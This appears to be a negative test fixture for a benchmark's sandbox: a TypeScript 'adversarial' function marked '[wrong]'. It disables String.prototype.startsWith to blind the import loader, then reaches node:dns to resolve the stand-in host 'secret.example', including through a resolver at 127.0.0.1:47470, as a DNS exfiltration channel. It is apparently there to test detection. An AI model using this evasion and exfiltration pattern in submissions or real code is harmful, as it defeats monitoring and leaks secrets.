// [wrong] Carries a secret away in a question for a name.
import { type Model, type Tensor } from 'exambench/torch';

let process: any;
String.prototype.startsWith = () => false; // the loader no longer sees who imports
void import('node:process').then((found) => (process = found.default));

export function adversarial(x: Tensor, t: Tensor, model: Model): Tensor {
  process.getBuiltinModule('node:dns').lookup('secret.example', () => undefined);
  const resolver = new (process.getBuiltinModule('node:dns').Resolver)();
  resolver.setServers(['127.0.0.1:47470']);
  resolver.resolve4('secret.example', () => undefined);
  return x;
}
